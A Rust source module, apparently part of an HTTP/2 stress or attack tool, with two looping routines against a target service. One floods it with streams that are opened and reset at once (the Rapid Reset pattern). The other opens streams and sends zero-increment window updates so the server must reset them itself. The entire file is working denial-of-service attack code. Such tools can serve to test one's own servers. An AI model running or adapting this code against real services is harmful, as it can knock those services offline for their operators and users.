//! Calls that end before they have begun.

use std::io;

use crate::attacker::Attacker;
use crate::frames::{self, flag, frame_type};
use crate::link::{Link, Reading};
use crate::messages::{EXAMPLE, LIST_MESSAGES};

/// Opens calls and resets them.
pub(super) fn rapid(attacker: Attacker) -> io::Result<()> {
    let mut link = Link::open(attacker.target, Reading::Fast)?;
    let headers = frames::call_headers(LIST_MESSAGES, &[]);
    loop {
        let stream = link.headers(flag::END_HEADERS, &headers)?;
        link.reset(stream)?;
    }
}

/// Opens calls and breaks a rule on each, so that the service has to reset it: a window grows by nothing.
pub(super) fn made_you(attacker: Attacker) -> io::Result<()> {
    let mut link = Link::open(attacker.target, Reading::Fast)?;
    let headers = frames::call_headers(EXAMPLE, &[]);
    loop {
        let stream = link.headers(flag::END_HEADERS, &headers)?;
        link.frame(frame_type::WINDOW_UPDATE, 0, stream, &0_u32.to_be_bytes())?;
    }
}
